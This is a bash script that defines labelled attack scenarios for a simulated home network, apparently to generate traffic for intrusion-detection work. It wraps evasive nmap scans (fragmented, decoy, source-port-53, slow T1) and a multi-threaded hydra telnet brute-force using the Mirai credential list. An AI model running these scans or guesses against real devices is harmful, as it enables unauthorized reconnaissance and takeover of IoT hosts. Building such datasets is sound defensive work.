# shellcheck shell=bash
# Fourth-session recon and guessing variants (issue #5 "generalise"): scan
# shapes real captures hold that the earlier scenarios never produced — a
# -T1 scan spread over minutes, an IP protocol scan, fragmented, SCTP,
# source-port-53 and decoy scans, a version scan of non-web services, and
# hydra against telnet with many threads. Every one is nmap or hydra from
# Debian; mix them into scenario `variants` (whose extra services the
# version scan needs) with `--attacks`.

# nmap -T1 waits 15 s between probes: 24 ports take six minutes, far past
# the 60 s recon window.
attack_nmap_t1_scan() { nmap_variant nmap-t1-scan dvr 1-24 "sneaky SYN scan (-T1, 15 s between probes) of 24 ports" 600 -sS -p 1-24 -T1; }
attack_nmap_ip_proto_scan() { nmap_variant nmap-ip-proto-scan hub "" "IP protocol scan (-sO): one packet per IP protocol number" 240 -sO -T4; }
attack_nmap_frag_scan() { nmap_variant nmap-frag-scan cam 1-1024 "fragmented SYN scan (-f): the TCP header split into 8-byte IP fragments" 180 -sS -f -p 1-1024 -T4; }
attack_nmap_sctp_scan() { nmap_variant nmap-sctp-scan spk 1-1000 "SCTP INIT scan (-sY)" 240 -sY -p 1-1000 -T4; }
attack_nmap_srcport_scan() { nmap_variant nmap-srcport-scan plug 1-1024 "SYN scan from source port 53 (-g 53), as firewall-evading scans do" 120 -sS -g 53 -p 1-1024 -T4; }
# Decoys are addresses nobody on the LAN holds; every probe is sent from
# each of them and from the attacker, all through the attacker's NIC.
attack_nmap_decoy_scan() { nmap_variant nmap-decoy-scan hub 1-1024 "SYN scan with two decoys (-D 192.168.50.77,192.168.50.78,ME)" 180 -sS -D "$NET.77,$NET.78,ME" -p 1-1024 -T4; }
# The home server's MQTT broker, VNC and memcached (scenario variants): no
# web port, so nmap's HTTP probes are not the only tell.
attack_nmap_version_nonweb() { nmap_variant nmap-version-nonweb srv "1883;5900;11211" "service/version detection (-sV) of MQTT, VNC and memcached (no web server)" 300 -sV -p 1883,5900,11211 -T4; }

attack_hydra_telnet_threads() {
    local creds; creds=$(creds_head 61)
    labelled hydra-telnet-threads bruteforce "${IP[atk]}" "${IP[dvr]}" 23 hydra \
        "telnet guessing with 16 parallel tasks (hydra -t 16), the Mirai list (61 pairs); root:vizxv succeeds" atk 240 -- \
        sh -c "cd '$W/atk' && exec hydra -I -C '$creds' -t 16 -o '$W/atk/hydra-telnet-threads.txt' telnet://${IP[dvr]}"
}
